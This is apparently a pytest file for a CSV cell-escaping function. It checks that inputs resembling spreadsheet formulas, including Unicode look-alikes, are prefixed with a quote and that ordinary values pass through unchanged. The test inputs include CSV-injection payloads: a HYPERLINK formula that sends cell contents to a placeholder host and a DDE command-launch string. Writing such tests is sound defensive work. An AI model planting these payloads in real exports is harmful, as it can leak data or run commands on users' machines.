"""No cell of a CSV file is taken for a formula."""

from __future__ import annotations

import csv
import io

import pytest

from generator.cells import cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\u3000@x",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        '=HYPERLINK("https://x.example/?"&A1)',
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_looks_like_a_formula_is_made_a_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    out = io.StringIO()
    csv.writer(out).writerow([cell(text)])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline="")))[0].startswith("'")


@pytest.mark.parametrize("text", ["", "Ada", "C-1001", "1-2", "a=b", "'=1", "mail@example.org", "–5", "€ 9"])
def test_all_else_stays(text: str) -> None:
    assert cell(text) == text
